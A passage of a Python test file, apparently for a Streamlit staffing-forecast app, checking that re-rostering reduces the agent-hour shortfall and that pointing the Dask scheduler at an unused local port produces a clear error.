    button(at, "Re-roster with the accepted ones").click()
    rerun(at)
    wait_for(at, lambda: "gap_check" in at.session_state, timeout_s=300)
    check = at.session_state["gap_check"]["result"]
    assert check.actual_short_agent_h < gap.short_agent_h
    table = next(d.value for d in at.dataframe if "re-rostered" in d.value.columns)
    assert table.loc[0, "re-rostered"] == pytest.approx(check.actual_short_agent_h)


def test_forecast_page_workers_and_cluster_setting_reaches_the_fanout(at, monkeypatch):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # nothing listens there
    monkeypatch.setenv("SHIFTCAST_DASK_TIMEOUT_S", "1")
    goto(at, "forecast")
    next(n for n in at.number_input if n.label == "Horizon (days)").set_value(7)
    next(c for c in at.checkbox if c.label == "Backtest").uncheck()
    assert next(n for n in at.number_input if n.label == "Workers").value == 0
    next(t for t in at.text_input if t.label == "Dask scheduler").set_value(f"tcp://127.0.0.1:{port}")
    button(at, "Run forecast").click()
    rerun(at)
    wait_for(at, lambda: any(f"no Dask scheduler answers at tcp://127.0.0.1:{port}" in e.value for e in at.error))
    assert "forecast" not in at.session_state
